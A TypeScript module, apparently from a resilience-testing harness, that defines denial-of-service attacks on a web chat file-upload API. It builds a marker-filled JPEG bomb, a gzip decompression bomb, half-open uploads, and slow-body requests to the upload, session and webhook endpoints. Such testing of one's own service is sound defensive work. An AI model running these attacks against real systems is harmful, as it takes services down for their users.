import { gzipSync } from "node:zlib";
import { ask, trickle } from "./ask.js";
import { type Attack, type Field, steadily } from "./field.js";

/** A JPEG of nothing but empty markers: code that looks for its size reads them one by one. */
const BOMB = Buffer.alloc(9_900_000);
BOMB.set([0xff, 0xd8]);
for (let at = 2; at + 4 <= BOMB.length; at += 4) BOMB.set([0xff, 0xe0, 0x00, 0x02], at);

const INFLATES = gzipSync(Buffer.alloc(10 * 1024 * 1024 - 1));
/** Unfinished uploads come from two visitors only. */
const HALF_OPEN_VISITORS = 2;

const upload = (field: Field, token: string | undefined, type: string) => ({
  method: "POST" as const,
  path: `/webchat/files?channel=${field.channel}`,
  headers: { authorization: `Bearer ${token ?? ""}`, "content-type": type, "x-file-name": "foto.jpg" },
});

const some = (tokens: string[], among = tokens.length) => tokens[Math.floor(Math.random() * among)];

const bombs: Attack = (field) =>
  steadily(field, { everyMs: 400, atOnce: 4 }, async () => {
    const token = some(field.tokens);
    if (token === undefined) return;
    field.note("pictures of markers", await ask(field, { ...upload(field, token, "image/jpeg"), body: BOMB }));
  });

const halfOpen: Attack = (field) =>
  steadily(field, { everyMs: 50, atOnce: 40 }, async () => {
    const token = some(field.tokens, Math.min(HALF_OPEN_VISITORS, field.tokens.length));
    if (token === undefined) return;
    field.note("half-open uploads", await trickle(field, upload(field, token, "image/jpeg"), null));
  });

const slowBodies: Attack = (field) => {
  // So small that no server can refuse it because of its size.
  const json = { "content-type": "application/json", "content-length": "20000" };
  const doors = [
    () => upload(field, some(field.tokens), "image/png"),
    () => ({ method: "POST" as const, path: "/api/v1/session", headers: json }),
    () => ({ method: "POST" as const, path: field.webhook, headers: { ...json, "x-hub-signature-256": "sha256=00" } }),
    () => ({ method: "POST" as const, path: "/demo/files", headers: { "content-type": "image/png" } }),
  ];
  let turn = 0;
  return steadily(field, { everyMs: 100, atOnce: 32 }, async () => {
    const asked = doors[turn++ % doors.length]?.();
    if (asked) field.note(`slow body ${asked.path.split("?")[0]}`, await trickle(field, asked, 1_000));
  });
};

const inflating: Attack = (field) =>
  steadily(field, { everyMs: 100, atOnce: 20 }, async () => {
    const headers = { "content-encoding": "gzip", "content-type": "image/png", authorization: "Bearer nobody" };
    field.note("inflating bodies", await ask(field, { method: "POST", path: "/demo/files", headers, body: INFLATES }));
  });

export const BODY_ATTACKS: Attack[] = [bombs, halfOpen, slowBodies, inflating];
